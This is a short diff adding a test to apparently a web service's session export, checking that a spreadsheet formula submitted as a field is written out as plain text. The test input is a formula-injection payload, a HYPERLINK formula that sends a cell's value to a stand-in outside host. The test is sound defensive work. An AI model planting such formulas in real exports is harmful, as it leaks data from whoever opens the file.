@@ -91,6 +91,15 @@ def test_grid_downloads_hold_every_matching_session_sorted_as_asked(
     )
 
 
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(client: Client, world: World) -> None:
+    alice = login(client, world, "alice")
+    formula = '=HYPERLINK("http://example.com/?"&A1,"x")'
+    call(client, "POST", f"{alice['session_id']}/interactions", alice["token"], {"flow": formula})
+    (row,) = rows_of(get(client, "/active-sessions/export", world.admin_token))
+    assert row["open_interactions"] == "'" + formula
+    assert row["agent_id"] == "alice"  # nothing else changes
+
+
 def test_downloads_refuse_bad_requests_and_other_accounts(client: Client, world: World) -> None:
     unknown = get(client, "/usage/export?format=xml", world.admin_token)
     assert error_of(unknown) == (400, "invalid_request")
